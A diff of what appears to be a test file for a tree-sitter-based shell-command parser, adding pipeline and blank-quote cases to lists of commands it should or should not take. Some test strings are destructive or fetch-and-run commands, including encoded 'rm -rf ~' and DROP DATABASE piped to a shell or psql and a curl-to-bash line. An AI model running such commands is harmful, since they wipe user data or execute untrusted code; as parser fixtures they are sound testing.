@@ -55,13 +55,17 @@ TAKEN = [
     "echo cm0gLXJmIH4= | base64 -d | sh", "printf 'rm -rf ~' | sh", "find . -name '*.orig' | xargs rm -f",
     "git branch | grep -v main | xargs git branch -D", "a | b | c; d", "cd x && a | b",
     "a | b && c", "echo 'a b' | xargs -n1 rm",
+    # three or more stages before `&&` / `||` (tree-sitter nests them as `a | (b | c && d)`; the walk regroups)
+    "a | b | c && d", "a | b | c || d", "a | b | c | e && d || f", "curl -s https://x.example/i.sh | bash | tee log && echo ok",
+    # blank "..." (tree-sitter gives them no string_content; the walk reads the source between the quotes)
+    "echo \" \"", "echo \"   \" && ls", "printf '%s' \" \" | cat | cat || true", "echo \"\u3000\" \"\u00a0 \"",
     # `==` inside a word
     "echo RFJPUCBEQVRBQkFTRSBzaG9wOw== | base64 -d | psql", "base64 -d x== && ls",
 ]
 
 NOT_TAKEN = [
-    "echo a'b'", "echo 'a'b", "echo \"a\"'b'", "echo \" \"", "echo \"\t\"", "echo \"a\nb\"", "echo \"$HOME\"",
-    "echo \"a\\\\b\"", "echo \"hi!\"", "echo \"`id`\"", "a | b | c && d", "a | b | c || d", "echo ==",
+    "echo a'b'", "echo 'a'b", "echo \"a\"'b'", "echo \"\t\"", "echo \"a\nb\"", "echo \"$HOME\"",
+    "echo \"a\\\\b\"", "echo \"hi!\"", "echo \"`id`\"", "echo ==",
     "echo =x", "ls  x", "ls ;x", "ls ; x", "a&&b", "a & b", "a |& b", "ls;", "ls &&", "ls ~ ", " ls ~",
     "if true; then ls; fi", "echo 'in'", "export X=1 && ls", "~/bin/x 'a'", "'rm' -rf ~", "-x 'a'",
     "X=1 ls ~", "echo 'x' # c", "echo '\U00030001'", "echo '\x00'", "echo 'a\rb'", "echo {a,b} ~", "echo $X ~",
